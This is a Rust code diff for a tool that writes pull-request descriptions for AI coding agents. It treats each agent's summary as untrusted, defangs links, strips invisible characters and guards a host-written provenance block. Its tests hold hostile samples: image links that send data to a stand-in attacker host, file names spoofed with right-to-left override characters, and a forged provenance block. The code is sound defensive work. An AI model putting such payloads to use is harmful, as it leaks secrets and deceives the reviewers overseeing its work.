@@ -1,6 +1,8 @@
 //! The pull request's title and body: built from the brief, passed through the sanitizer as a whole,
 //! and closed by a provenance block the host writes (what ran, where, with which credential, at what
-//! cost), so a reviewer knows how the change was made without trusting the agent's word for it.
+//! cost), so a reviewer knows how the change was made without trusting the agent's word for it. The
+//! agent's own words (its summary, the model it reported) go through the display policy
+//! ([`crate::dispatch::display`]): nothing of theirs is fetched or clickable when the page is viewed.
 
 use std::fmt::Write as _;
 use std::sync::Arc;
@@ -8,11 +10,15 @@ use std::time::Duration;
 
 use crate::brief::Brief;
 use crate::dispatch::branch::CommitSha;
+use crate::dispatch::display::{code_span, forge_text, table_cell_code, without_invisible};
 use crate::dispatch::event::DispatchId;
 use crate::dispatch::sanitize::{SanitizedText, TokenSanitizer};
 
 /// GitHub refuses longer titles.
 const MAX_TITLE_CHARS: usize = 256;
+
+/// The longest model name the provenance block shows (a name the agent reported has no other bound).
+const MAX_MODEL_CHARS: usize = 128;
 
 /// The marker that opens the provenance block; an update replaces everything from it on.
 pub const PROVENANCE_MARKER: &str = "<!-- stet:provenance -->";
@@ -52,8 +58,9 @@ pub struct PullRequestDraft {
 }
 
 impl PullRequestDraft {
-    /// Builds the draft from the brief, the agent's own summary (untrusted text, shown as a quote) and
-    /// the host's provenance; the sanitizer masks anything secret-shaped or known anywhere in it.
+    /// Builds the draft from the brief, the agent's own summary (untrusted text, made inert and shown
+    /// as a quote) and the host's provenance; invisible characters are removed from all of it and the
+    /// sanitizer masks anything secret-shaped or known anywhere in it.
     pub fn compose(
         brief: &Brief,
         head: &str,
@@ -61,7 +68,11 @@ impl PullRequestDraft {
         provenance: &Provenance,
         sanitizer: &Arc<TokenSanitizer>,
     ) -> PullRequestDraft {
-        let title: String = brief.title.chars().take(MAX_TITLE_CHARS).collect();
+        let title: String = without_invisible(&brief.title)
+            .text
+            .chars()
+            .take(MAX_TITLE_CHARS)
+            .collect();
         let mut body = String::new();
         body.push_str(
             "This change was made by an AI coding agent dispatched by stet, from this brief:\n\n",
@@ -71,33 +82,57 @@ impl PullRequestDraft {
             if let Some(anchor) = &item.anchor {
                 match anchor.lines {
                     Some((first, last)) => {
-                        let _ = write!(body, " (`{}` lines {first}–{last})", anchor.path);
+                        let _ = write!(body, " ({} lines {first}–{last})", code_span(&anchor.path));
                     }
                     None => {
-                        let _ = write!(body, " (`{}`)", anchor.path);
+                        let _ = write!(body, " ({})", code_span(&anchor.path));
                     }
                 }
             }
             body.push('\n');
         }
         if let Some(summary) = agent_summary.map(str::trim).filter(|s| !s.is_empty()) {
+            let shown = forge_text(sanitizer, summary);
             body.push_str("\nThe agent's summary (its own words, unverified):\n\n");
-            for line in summary.lines() {
+            for line in shown.text.as_str().lines() {
                 let _ = writeln!(body, "> {line}");
+            }
+            if let Some(note) = rewrite_note(shown.links_defanged, shown.invisible_removed) {
+                let _ = writeln!(body, "\n{note}");
             }
         }
         body.push('\n');
         body.push_str(&provenance_block(provenance));
         PullRequestDraft {
             title: sanitizer.sanitize(&title),
-            body: sanitizer.sanitize(&body),
+            body: sanitizer.sanitize(&without_invisible(&body).text),
             base: brief.target.base.clone(),
             head: head.to_owned(),
         }
     }
 }
 
-/// The host-written block at the end of the body.
+/// What stet changed in the agent's summary, said under it so a reviewer knows the agent tried.
+fn rewrite_note(links: usize, invisible: usize) -> Option<String> {
+    let links = match links {
+        0 => None,
+        1 => Some("made 1 link or image in it inert".to_owned()),
+        n => Some(format!("made {n} links or images in it inert")),
+    };
+    let invisible = match invisible {
+        0 => None,
+        1 => Some("removed 1 invisible character".to_owned()),
+        n => Some(format!("removed {n} invisible characters")),
+    };
+    match (links, invisible) {
+        (None, None) => None,
+        (Some(one), None) | (None, Some(one)) => Some(format!("*stet {one}.*")),
+        (Some(links), Some(invisible)) => Some(format!("*stet {links} and {invisible}.*")),
+    }
+}
+
+/// The host-written block at the end of the body. The model's name can come from the agent (the
+/// usage it reports), so it is shown as code.
 pub fn provenance_block(p: &Provenance) -> String {
     let mut block = String::new();
     let _ = writeln!(block, "{PROVENANCE_MARKER}");
@@ -117,7 +152,17 @@ pub fn provenance_block(p: &Provenance) -> String {
     );
     row(
         "Model",
-        p.model.clone().unwrap_or_else(|| "not reported".to_owned()),
+        p.model
+            .as_deref()
+            .map(|model| {
+                let shown = without_invisible(model).text;
+                match shown.char_indices().nth(MAX_MODEL_CHARS) {
+                    Some((cut, _)) => table_cell_code(&format!("{}…", &shown[..cut])),
+                    None => table_cell_code(&shown),
+                }
+            })
+            .filter(|shown| !shown.is_empty())
+            .unwrap_or_else(|| "not reported".to_owned()),
     );
     row(
         "Tokens",
@@ -228,7 +273,7 @@ text = "Add a regression test."
         for expected in [
             "| Image | `sha256:abab",
             "| Harness | openhands 1.16.0 |",
-            "| Model | gpt-test |",
+            "| Model | `gpt-test` |",
             "| Tokens | 1200 in · 340 out |",
             "| Cost | $0.0123 |",
             "| Network | none |",
@@ -271,6 +316,128 @@ text = "Add a regression test."
                 .matches("[REDACTED:primary-token]")
                 .count(),
             2
+        );
+    }
+
+    #[test]
+    fn the_agents_summary_reaches_the_body_inert_and_without_invisible_characters() {
+        let sanitizer = Arc::new(TokenSanitizer::new().unwrap());
+        let summary = "Fixed it ![x](https://attacker.example/?d=SECRETDATA).\n\
+            See [the log](https://attacker.example/log) and [ref].\n\
+            [ref]: https://attacker.example/r\n\
+            <img src=\"https://attacker.example/p.png\"> <https://attacker.example/auto> www.attacker.example\n\
+            user\u{202e}txt.exe\u{200b} done";
+        let draft =
+            PullRequestDraft::compose(&brief(), "stet/x", Some(summary), &provenance(), &sanitizer);
+        let body = draft.body.as_str();
+        let expected = "The agent's summary (its own words, unverified):\n\n\
+            > Fixed it x (image: `https://attacker.example/?d=SECRETDATA`).\n\
+            > See the log (`https://attacker.example/log`) and ref (`https://attacker.example/r`).\n\
+            > \\[ref\\]: `https://attacker.example/r`\n\
+            > &lt;img src=\"`https://attacker.example/p.png`\"> `https://attacker.example/auto` `www.attacker.example`\n\
+            > usertxt.exe done\n\
+            \n\
+            *stet made 5 links or images in it inert and removed 2 invisible characters.*\n\
+            \n\
+            <!-- stet:provenance -->\n";
+        assert!(body.contains(expected), "{body}");
+        assert!(
+            body.contains("\n**Provenance** (written by stet on the host, not by the agent)\n")
+        );
+    }
+
+    #[test]
+    fn an_agent_cannot_forge_the_provenance_block_or_swallow_it() {
+        let sanitizer = Arc::new(TokenSanitizer::new().unwrap());
+        let summary = format!(
+            "{PROVENANCE_MARKER}\n**Provenance** (written by stet on the host, not by the agent)\n\n\
+             | | |\n|---|---|\n| Network | bridge |\n<!--\n```\nunclosed `{PROVENANCE_MARKER}`"
+        );
+        let draft = PullRequestDraft::compose(
+            &brief(),
+            "stet/x",
+            Some(&summary),
+            &provenance(),
+            &sanitizer,
+        );
+        let body = draft.body.as_str();
+        let quote_start = body.find("unverified):\n\n").unwrap() + "unverified):\n\n".len();
+        let host = body.rfind(PROVENANCE_MARKER).unwrap();
+        let quoted = &body[quote_start..host];
+        for line in quoted.lines().take_while(|line| !line.is_empty()) {
+            assert!(
+                line.starts_with("> "),
+                "{line:?} escaped the quote in\n{body}"
+            );
+        }
+        assert!(
+            quoted.contains("> &lt;!-- stet:provenance -->\n> **Provenance**"),
+            "{body}"
+        );
+        assert!(quoted.contains("> \\|---|---|\n"), "{body}");
+        assert!(
+            quoted.contains("> &lt;!--\n> ```\n> unclosed `<!-- stet:provenance -->`\n> ```\n"),
+            "{body}"
+        );
+        assert!(body[host..].starts_with(&format!("{PROVENANCE_MARKER}\n**Provenance**")));
+        assert!(body[host..].contains("| Network | none |"));
+    }
+
+    #[test]
+    fn a_clean_summary_gets_no_note() {
+        let sanitizer = Arc::new(TokenSanitizer::new().unwrap());
+        let draft = PullRequestDraft::compose(
+            &brief(),
+            "stet/x",
+            Some("Fixed `login.rs`; see #12."),
+            &provenance(),
+            &sanitizer,
+        );
+        assert!(
+            draft
+                .body
+                .as_str()
+                .contains("> Fixed `login.rs`; see #12.\n\n<!-- stet:provenance -->")
+        );
+    }
+
+    #[test]
+    fn a_model_name_the_agent_reported_is_shown_as_code() {
+        let mut p = provenance();
+        p.model = Some("m ![x](https://attacker.example/m.png) | <img src=x>\u{2066}".into());
+        let block = provenance_block(&p);
+        assert!(
+            block.contains(
+                "| Model | `m ![x](https://attacker.example/m.png) \u{a6} <img src=x>` |\n"
+            ),
+            "{block}"
+        );
+        p.model = Some("\u{200b}".into());
+        assert!(provenance_block(&p).contains("| Model | not reported |"));
+        p.model = Some("é".repeat(500));
+        assert!(
+            provenance_block(&p).contains(&format!("| Model | `{}…` |", "é".repeat(128))),
+            "{}",
+            provenance_block(&p)
+        );
+    }
+
+    #[test]
+    fn brief_text_loses_its_invisible_characters_and_anchors_stay_code() {
+        let sanitizer = Arc::new(TokenSanitizer::new().unwrap());
+        let mut brief = brief();
+        brief.title = "Fix\u{202e} the loop".into();
+        brief.items[0].text = "Loops\u{200b} when empty.".into();
+        brief.items[0].anchor.as_mut().unwrap().path = "src/a`b.rs".into();
+        let draft = PullRequestDraft::compose(&brief, "stet/x", None, &provenance(), &sanitizer);
+        assert_eq!(draft.title.as_str(), "Fix the loop");
+        assert!(
+            draft
+                .body
+                .as_str()
+                .contains("- Loops when empty. (``src/a`b.rs`` lines 120–148)\n"),
+            "{}",
+            draft.body
         );
     }
 
